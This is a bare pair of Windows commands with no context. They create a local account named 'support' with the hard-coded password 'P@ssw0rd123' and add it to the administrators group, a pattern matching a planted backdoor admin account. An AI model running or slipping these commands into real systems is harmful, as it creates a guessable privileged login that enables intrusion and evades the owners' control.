net user support P@ssw0rd123 /add
net localgroup administrators support /add
